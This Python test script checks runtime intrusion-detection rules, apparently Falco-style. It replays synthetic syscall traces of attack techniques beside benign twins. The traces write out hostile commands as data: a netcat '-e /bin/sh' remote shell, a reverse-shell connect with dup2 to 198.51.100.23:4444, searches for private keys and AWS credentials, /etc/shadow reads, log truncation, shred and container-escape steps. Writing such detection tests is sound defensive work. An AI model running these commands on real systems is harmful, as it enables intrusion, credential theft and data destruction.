#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attack techniques as synthetic traces, each beside a quiet twin: the rule must fire once, and stay silent.

usage: techniques.py MKTRACE HOLTER_REPLAY [RULES.yaml]

Without a rules file: techniques.yaml beside this program, and nothing else may fire. With one, such as the public
falco_rules.yaml, the rule must fire in the attack and stay silent in its twin, whatever others do.
"""

import json
import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "lib"))
from tap import Tap  # noqa: E402

FACTS = 'facts hostname=web root_pid=1 start=2026-11-21T20:09:00Z'
CONTAINER = FACTS + ' container_id=0123456789ab container_image=registry.example/web container_privileged=0'
PRIVILEGED = CONTAINER[:-1] + '1'
WORLD = """
user 0 root
user 1 daemon
user 33 www-data
group 0 root
proc 1 comm="init" exe="/sbin/init" argv=["init"] uid=0 euid=0 gid=0 egid=0 cwd="/" ppid=0 tty=0 cap_eff=0 loginuid=-1
at +1s
1: fork 10
10: exec "/usr/bin/app" ["app","--serve"]
"""

ROOT_CAPS = "cap_eff=0x1ffffffffff"
SYS_ADMIN = "cap_eff=0x200000"


def server(name, path, child):
    """A server below init whose child 11 runs a program."""
    return f'10: exec "{path}" ["{name}"]\n10: fork 11\n11: exec {child}\n'


def run(path, *argv):
    args = ",".join(json.dumps(a) for a in argv)
    return f'10: exec "{path}" [{args}]\n'


def openat(path, flags, result="3"):
    return f'10: openat(AT_FDCWD, "{path}", {flags}, 0) = {result}\n'


READ = "O_RDONLY|O_CLOEXEC"
EMPTY = "O_WRONLY|O_CREAT|O_TRUNC"

# rule: (facts, attack, quiet)
CASES = {
    "Directory traversal monitored file read": (
        FACTS,
        openat("/home/x/../x/../x/.ssh/known_hosts", READ),
        openat("/home/x/.ssh/known_hosts", READ) + openat("/srv/www/../www/../www/index.html", READ)),
    "Directory traversal monitored file read (failed)": (
        FACTS,
        openat("/etc/../etc/../etc/other", READ, "EACCES"),
        run("/bin/sh", "sh") + "10: fork 11\n" + run("/bin/cat", "cat").replace("10:", "11:")
        + openat("/etc/../etc/../etc/other", READ, "EACCES").replace("10:", "11:")),
    "Read sensitive file trusted after startup": (
        FACTS,
        run("/usr/sbin/httpd", "httpd") + "at +9s\n" + openat("/etc/shadow", READ),
        run("/usr/sbin/httpd", "httpd") + openat("/etc/shadow", READ)),
    "Read sensitive file untrusted": (
        FACTS,
        openat("/etc/shadow", READ),
        openat("/etc/shadow", READ, "EACCES") + openat("/etc/passwd", READ) + openat("/tmp/shadow", READ)
        + run("/usr/bin/passwd", "passwd") + openat("/etc/shadow", READ)),
    "Run shell untrusted": (
        FACTS,
        server("nginx", "/usr/sbin/nginx", '"/bin/sh" ["sh","-c","id"]'),
        server("cron", "/usr/sbin/cron", '"/bin/sh" ["sh","-c","id"]')
        + '11: fork 12\n12: exec "/usr/sbin/nginx" ["nginx"]\n'),
    "System user interactive": (
        FACTS,
        server("sshd", "/usr/sbin/sshd", '"/usr/bin/id" ["id"] uid=1 euid=1'),
        server("sshd", "/usr/sbin/sshd", '"/usr/bin/id" ["id"] uid=0 euid=0')
        + '10: fork 12\n12: exec "/usr/sbin/sshd" ["sshd"] uid=1 euid=1\n'),
    "Terminal shell in container": (
        CONTAINER,
        'proc 20 comm="runc" exe="/usr/bin/runc" argv=["runc"] ppid=0 tty=0 uid=0 euid=0\n'
        '20: fork 21\n21: exec "/bin/bash" ["bash"] tty=34816\n',
        '10: fork 11\n11: exec "/bin/bash" ["bash"] tty=34816\n'
        'proc 20 comm="runc" exe="/usr/bin/runc" argv=["runc"] ppid=0 tty=0 uid=0 euid=0\n'
        '20: fork 21\n21: exec "/bin/bash" ["bash"] tty=0\n'),
    "Netcat Remote Code Execution in Container": (
        CONTAINER,
        run("/bin/nc", "nc", "-e", "/bin/sh", "example.com", "22"),
        run("/bin/nc", "nc", "example.com", "22")),
    "Search Private Keys or Passwords": (
        FACTS,
        run("/usr/bin/find", "find", "/", "-name", "id_rsa"),
        run("/usr/bin/find", "find", "/", "-name", "id_card") + run("/usr/bin/grep", "grep", "root", "/etc/passwd")),
    "Search Private Keys or Passwords (grep)": (
        FACTS,
        run("/usr/bin/grep", "grep", "-r", "BEGIN RSA PRIVATE KEY", "/"),
        run("/usr/bin/echo", "echo", "BEGIN RSA PRIVATE KEY")),
    "Clear Log Activities": (
        FACTS,
        openat("/var/log/app.log", EMPTY),
        openat("/var/log/app.log", "O_WRONLY|O_APPEND") + openat("/tmp/app.log", EMPTY)),
    "Remove Bulk Data from Disk": (
        FACTS, run("/usr/bin/shred", "shred", "-u", "x"), run("/usr/bin/rm", "rm", "x")),
    "Create Symlink Over Sensitive Files": (
        FACTS,
        '10: symlink("/etc/shadow", "/tmp/x") = 0\n',
        '10: symlink("/tmp/x", "/tmp/y") = 0\n'),
    "Create Symlink Over Sensitive Files (symlinkat)": (
        FACTS,
        '10: symlinkat("/etc", AT_FDCWD, "/tmp/x") = 0\n',
        '10: symlinkat("/etc/hostname", AT_FDCWD, "/tmp/x") = 0\n'),
    "Create Hardlink Over Sensitive Files": (
        FACTS,
        '10: linkat(AT_FDCWD, "/etc/shadow", AT_FDCWD, "/tmp/x", 0) = 0\n',
        '10: linkat(AT_FDCWD, "/tmp/x", AT_FDCWD, "/etc/shadow", 0) = EEXIST\n'),
    "Packet socket created in container": (
        CONTAINER,
        "10: socket(AF_PACKET, SOCK_RAW, 0) = 3\n",
        "10: socket(AF_INET, SOCK_RAW, 0) = 3\n"),
    "Packet socket created in container (host)": (None, "", "10: socket(AF_PACKET, SOCK_RAW, 0) = 3\n"),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        CONTAINER,
        "10: socket(AF_INET, SOCK_STREAM, 0) = 4\n10: connect(4, 198.51.100.23:4444, 16) = 0\n"
        "10: dup2(4, 0) = 0\n",
        "10: socket(AF_INET, SOCK_STREAM, 0) = 4\n10: connect(4, 198.51.100.23:4444, 16) = 0\n"
        "10: dup2(4, 7) = 7\n" + openat("/tmp/x", READ, "5") + "10: dup2(5, 0) = 0\n"),
    "Linux Kernel Module Injection Detected": (
        CONTAINER,
        run("/sbin/insmod", "insmod", "x.ko").strip() + f" {ROOT_CAPS}\n10: init_module(0, 0, \"\") = EPERM\n",
        "10: init_module(0, 0, \"\") = EPERM\n"),
    "Debugfs Launched in Privileged Container": (
        PRIVILEGED, run("/sbin/debugfs", "debugfs", "-V"), run("/sbin/dumpe2fs", "dumpe2fs")),
    "Detect release_agent File Container Escapes": (
        CONTAINER,
        run("/usr/bin/app", "app").strip() + f" {SYS_ADMIN}\n" + openat("/sys/fs/cgroup/release_agent", EMPTY),
        openat("/sys/fs/cgroup/release_agent", EMPTY)
        + run("/usr/bin/app", "app").strip() + f" {SYS_ADMIN}\n" + openat("/sys/fs/cgroup/release_agent", READ)),
    "PTRACE attached to process": (
        FACTS, "10: ptrace(PTRACE_ATTACH, 1, 0, 0) = 0\n", "10: ptrace(PTRACE_DETACH, 1, 0, 0) = 0\n"),
    "PTRACE anti-debug attempt": (
        FACTS, "10: ptrace(PTRACE_TRACEME, 0, 0, 0) = 0\n", "10: ptrace(PTRACE_CONT, 1, 0, 0) = 0\n"),
    "Find AWS Credentials": (
        FACTS,
        run("/usr/bin/find", "find", "/root", "-iname", ".aws/credentials"),
        run("/usr/bin/ls", "ls", "/root/.aws/credentials")),
    "Execution from /dev/shm": (
        FACTS,
        run("/dev/shm/tool", "/dev/shm/tool"),
        openat("/dev/shm/tool", READ) + run("/usr/bin/tool", "/usr/bin/tool", "/dev/shm")),
    "Execution from /dev/shm (relative)": (
        FACTS,
        '10: chdir("/dev/shm/") = 0\n10: chdir("/dev/shm/a") = 0\n' + run("./tool", "./tool"),
        '10: chdir("/srv") = 0\n' + run("./tool", "./tool")),
    "Disallowed SSH Connection Non Standard Port": (
        FACTS,
        run("/usr/bin/ssh", "ssh", "u@x", "-p", "443")
        + "10: socket(AF_INET, SOCK_STREAM, 6) = 3\n10: connect(3, 198.51.100.23:443, 16) = 0\n",
        run("/usr/bin/ssh", "ssh", "u@x")
        + "10: socket(AF_INET, SOCK_STREAM, 6) = 3\n10: connect(3, 198.51.100.23:22, 16) = 0\n"
        + "10: socket(AF_INET, SOCK_STREAM, 6) = 4\n10: connect(4, 10.1.2.3:443, 16) = 0\n"
        + "10: socket(AF_INET, SOCK_STREAM, 6) = 5\n10: connect(5, 198.51.100.24:443, 16) = ECONNREFUSED\n"),
    "Fileless execution via memfd_create": (
        FACTS,
        run("/proc/self/fd/3", "tool").strip() + ' exe="/memfd:tool (deleted)"\n',
        run("/usr/bin/tool", "tool")),
}


def alerts(mktrace, replay, rules, text, folder):
    trace = os.path.join(folder, "t.htr")
    subprocess.run([mktrace, trace], input=text, text=True, check=True)
    out = subprocess.run([replay, trace, "-j", "-q", "-r", rules], text=True, capture_output=True, timeout=60,
                         check=False)
    if out.returncode:
        return [f"exit {out.returncode}: {out.stderr}"]
    return [json.loads(line)["rule"] for line in out.stdout.splitlines()]


def main():
    mktrace, replay = sys.argv[1:3]
    rules = sys.argv[3] if len(sys.argv) > 3 else os.path.join(HERE, "techniques.yaml")
    strict = len(sys.argv) <= 3
    tap = Tap("replay")
    with tempfile.TemporaryDirectory() as folder:
        for name, (facts, attack, quiet) in CASES.items():
            rule = name.split(" (")[0]
            if facts:
                got = alerts(mktrace, replay, rules, facts + WORLD + attack, folder)
                good = got == [rule] if strict else rule in got
                tap.check(f"{name}: attack", [] if good else [f"alerts: {got}", attack])
            got = alerts(mktrace, replay, rules, (facts or FACTS) + WORLD + quiet, folder)
            good = not got if strict else rule not in got
            tap.check(f"{name}: quiet", [] if good else [f"alerts: {got}", quiet])
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
